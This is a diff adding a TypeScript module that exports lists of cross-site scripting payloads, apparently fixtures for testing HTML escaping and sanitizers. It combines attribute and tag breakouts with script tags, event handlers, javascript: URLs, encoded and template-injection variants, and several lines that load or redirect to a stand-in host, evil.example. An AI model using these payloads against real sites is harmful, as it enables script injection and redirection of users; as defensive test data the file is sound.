@@ -1,0 +1,73 @@
+// How a text might get out of where it stands: a text, an attribute in either quotes or none, a title, a cover, a comment.
+const waysOut = ['', '">', "'>", ' x=1>', '</title>', '</text></svg>', '-->']
+
+const waysIn = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe src=javascript:parent.alert(1)></iframe>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '<a href=javascript:alert(1)>Go</a>',
+  '<form action=javascript:alert(1)><button>Go</button></form>',
+]
+
+/** What would be a script, or lead to one, if it were printed as it is. */
+export const htmlPayloads: readonly string[] = [
+  ...waysOut.flatMap((wayOut) => waysIn.map((wayIn) => wayOut + wayIn)),
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script/x>alert(1)</script>',
+  '<script\n>alert(1)</script\n>',
+  '<<script>alert(1)//<</script>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img src=x:x onerror\n=\n"alert(1)">',
+  '<img src=x onerror=&#97;lert(1)>',
+  '<body onload=alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<object data=javascript:alert(1)></object>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<svg><a xlink:href=javascript:alert(1)><text>Go</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<a href="java\tscript:alert(1)">Go</a>',
+  '<base href=https://evil.example/>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '" autofocus onfocus=alert(1) x="',
+  "' autofocus onfocus=alert(1) x='",
+  '" onmouseover="alert(1)',
+  '"><b onclick=alert(1)>Go</b>',
+]
+
+/** What would be a script if something read it once more: a decoder, a template, a parser of another kind. */
+export const encodedPayloads: readonly string[] = [
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '%253Cscript%253Ealert(1)%253C/script%253E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
+  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '\u2028<script>alert(1)</script>\u2029',
+  '\u202E<script>alert(1)</script>',
+  '\uD800<script>alert(1)</script>',
+  ']]><script>alert(1)</script><![CDATA[',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
+  "{{constructor.constructor('alert(1)')()}}",
+  '{{{body}}}',
+  '{{> layout}}',
+  '{{#with (lookup this "constructor")}}{{this}}{{/with}}',
+  '${alert(1)} <%= alert(1) %> #{alert(1)} {%print alert(1)%}',
+  '__proto__ constructor toString',
+  '[Go](javascript:alert(1)) ![x](x "onerror=alert(1)")',
+]
